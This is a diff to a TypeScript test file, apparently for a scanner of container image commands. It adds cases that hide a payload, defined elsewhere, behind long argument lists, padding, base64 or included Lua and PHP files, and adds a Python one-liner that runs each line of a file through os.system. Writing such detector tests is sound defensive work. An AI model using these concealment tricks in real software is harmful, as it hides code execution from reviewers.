@@ -192,7 +192,32 @@ const LATER: readonly ImageCase[] = [
   },
 ];
 
+const GOES =
+  'import os, sys\ndef go(c):\n  os.system(c)\nfor a in sys.argv[1:]:\n  for l in open(a):\n    go(l)\n';
+const NOTES = 'A line | of honest notes; nothing in it runs.\n'.repeat(1000);
+const notesNamed = (count: number): Files =>
+  Object.fromEntries(Array.from({ length: count }, (_, index) => [`app/n${index}.txt`, `note ${index}\n`]));
+
+/** Among or behind so much else that only a whole look finds it. */
+const AMONG: readonly ImageCase[] = [
+  handed(['python3', '-c', GOES, ...Array.from({ length: 120 }, (_, index) => `-n${index}`), FETCH]),
+  handed(['python3', '-c', GOES, ...Object.keys(notesNamed(20)), 'logo.txt'], { ...notesNamed(20), ...LOGO }),
+  handed(['python3', '-c', GOES, '/app/notes.txt'], { 'app/notes.txt': `${NOTES}${FETCH}\n` }),
+  handed(['python3', '-c', GOES, '/app/notes.txt'], { 'app/notes.txt': `notes\n${base64(FETCH)}\n` }),
+  handed(`python3 -c '${GOES}' < /app/notes.txt`, { 'app/notes.txt': `${NOTES}${FETCH}\n` }),
+  handed(['/usr/bin/worker', '--run', `set -e\n${FETCH}\n`]),
+  handed(['lua', '/app/a.lua'], {
+    'app/a.lua': 'dofile("/app/logo.dat")\n',
+    'app/logo.dat': `-- ${'x'.repeat(70_000)}\nos.execute("${FETCH}")\n`,
+  }),
+  handed(['php', '/app/a.php'], {
+    'app/a.php': '<?php include "/app/logo.dat";\n',
+    'app/logo.dat': `${NOTES.repeat(2)}<?php system("${FETCH}"); ?>\n`,
+  }),
+];
+
 export const HANDED_OVER: readonly ImageCase[] = [
+  ...AMONG,
   ...WORDS,
   ...FILES,
   ...INPUT,
@@ -245,5 +270,13 @@ export const HANDED_OVER_TWINS: readonly ImageCase[] = [
     'app/a.rb': 'File.foreach("/app/logo.txt") { |l| puts l }\nsystem("nginx -t")\n',
     ...LOGO,
   }),
+  honest(['python3', '-c', GOES, '/app/notes.txt', '/app/urls.csv'], {
+    'app/notes.txt': NOTES.repeat(8),
+    'app/urls.csv': Array.from(
+      { length: 6000 },
+      (_, index) => `${index}, Page ${index}, https://www.handed.example/page-${index}?a=1&b=2\n`,
+    ).join(''),
+  }),
+  honest(['/usr/bin/worker', '--config', 'listen 80;\nupstream http://app:8000;\nlog "%h | %t";\n']),
   honest(['perl', '-e', 'print join(", ", @ARGV), "\\n"; exec "nginx", "-g", "daemon off;"', 'a b', 'c -d']),
 ];
